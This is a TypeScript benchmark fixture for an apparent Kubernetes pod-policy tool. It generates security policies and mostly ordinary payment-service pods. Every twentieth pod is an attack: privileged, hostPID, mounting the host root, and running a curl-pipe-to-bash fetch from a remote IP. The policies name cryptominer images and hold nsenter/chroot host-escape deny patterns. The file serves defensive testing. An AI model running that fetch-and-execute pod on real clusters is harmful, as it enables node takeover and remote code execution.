// Realistic input for the benchmarks: policies a platform team would run, and pods shaped like a
// production cluster's (Deployment pods with sidecars, probes and init containers; a few attacks).

export function realisticPolicies(): unknown[] {
  const policy = (name: string, spec: unknown) => ({
    apiVersion: 'deployguard.dev/v1alpha1',
    kind: 'ContainerDeploymentPolicy',
    metadata: { name },
    spec,
  });
  return [
    policy('restricted', {
      match: { excludeNamespaces: ['kube-system'] },
      rules: { podSecurity: { level: 'restricted' } },
    }),
    policy('supply-chain', {
      rules: {
        images: {
          allowedRegistries: ['registry.example.com/', 'docker.io/library/'],
          deniedImages: ['*xmrig*', '*/kinsing*'],
          disallowLatestTag: true,
        },
      },
    }),
    policy('host-escape', {
      mode: 'Enforce',
      rules: {
        hostPaths: { denySensitive: true, denied: ['/opt/secrets'] },
        indicators: { enabled: true },
        commands: {
          deniedPatterns: ['(?i)nsenter\\s+(-t|--target)\\s*1\\b', '(?i)chroot\\s+/host'],
        },
        scheduling: {},
        ownership: {},
      },
      actions: [{ type: 'DeletePod', minSeverity: 'high' }],
    }),
  ];
}

function appPod(i: number): Record<string, unknown> {
  const name = `api-${i}`;
  const secure = {
    runAsNonRoot: true,
    allowPrivilegeEscalation: false,
    capabilities: { drop: ['ALL'] },
    seccompProfile: { type: 'RuntimeDefault' },
  };
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: {
      name,
      namespace: 'payments',
      uid: `00000000-0000-0000-0000-${String(i).padStart(12, '0')}`,
      labels: { app: 'api', 'pod-template-hash': '7d9f8c6b5' },
      annotations: { 'prometheus.io/scrape': 'true' },
      ownerReferences: [
        {
          apiVersion: 'apps/v1',
          kind: 'ReplicaSet',
          name: 'api-7d9f8c6b5',
          uid: 'rs',
          controller: true,
        },
      ],
      creationTimestamp: '2026-11-25T09:00:00Z',
      // As the API server stores it: the ReplicaSet controller wrote the spec; the scheduler's
      // binding set nodeName, which field management doesn't record.
      managedFields: [
        {
          manager: 'kube-controller-manager',
          operation: 'Update',
          apiVersion: 'v1',
          fieldsV1: { 'f:metadata': {}, 'f:spec': { 'f:containers': {} } },
        },
      ],
    },
    spec: {
      serviceAccountName: 'api',
      securityContext: { runAsUser: 10001, fsGroup: 10001 },
      initContainers: [
        {
          name: 'migrate',
          image: 'registry.example.com/payments/migrate:1.8.2',
          command: ['/app/migrate', '--to', 'latest'],
          securityContext: secure,
        },
      ],
      containers: [
        {
          name: 'api',
          image: `registry.example.com/payments/api:2.${i % 10}.1`,
          command: ['/app/server'],
          args: ['--port=8080', '--log-level=info', '--db=postgres://db:5432/payments'],
          ports: [{ containerPort: 8080, protocol: 'TCP' }],
          readinessProbe: { httpGet: { path: '/ready', port: 8080 } },
          livenessProbe: {
            exec: { command: ['sh', '-c', 'curl -fsS http://localhost:8080/healthz'] },
          },
          securityContext: secure,
        },
        {
          name: 'envoy',
          image: 'docker.io/library/envoy:1.31',
          args: ['-c', '/etc/envoy/envoy.yaml', '--service-cluster', 'api'],
          ports: [{ containerPort: 9901 }],
          securityContext: secure,
        },
      ],
      volumes: [
        { name: 'config', configMap: { name: 'envoy' } },
        { name: 'tmp', emptyDir: {} },
      ],
      tolerations: [
        {
          key: 'node.kubernetes.io/not-ready',
          operator: 'Exists',
          effect: 'NoExecute',
          tolerationSeconds: 300,
        },
      ],
      nodeName: 'worker-3',
    },
  };
}

function attackPod(i: number): Record<string, unknown> {
  return {
    apiVersion: 'v1',
    kind: 'Pod',
    metadata: { name: `x-${i}`, namespace: 'payments', creationTimestamp: '2026-11-25T09:00:00Z' },
    spec: {
      hostPID: true,
      nodeName: 'worker-1',
      containers: [
        {
          name: 'x',
          image: 'alpine',
          command: ['sh', '-c', 'curl -s http://203.0.113.9/k.sh | bash'],
          securityContext: { privileged: true },
        },
      ],
      volumes: [{ name: 'host', hostPath: { path: '/' } }],
    },
  };
}

/** n pods, one in twenty an attack. */
export function realisticPods(n: number): Record<string, unknown>[] {
  return Array.from({ length: n }, (_, i) => (i % 20 === 19 ? attackPod(i) : appPod(i)));
}
